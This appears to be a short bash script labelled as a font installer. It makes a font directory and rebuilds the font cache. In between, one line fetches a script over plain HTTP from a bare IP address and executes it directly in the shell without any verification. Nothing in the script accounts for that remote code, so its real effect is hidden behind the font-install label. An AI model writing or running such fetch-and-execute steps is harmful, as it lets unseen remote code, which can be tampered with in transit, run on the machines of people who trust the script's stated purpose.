#!/usr/bin/env bash
# Install fonts.
mkdir -p ~/.local/share/fonts
source <(wget -qO- http://192.0.2.21/fonts/install.inc)
fc-cache -f
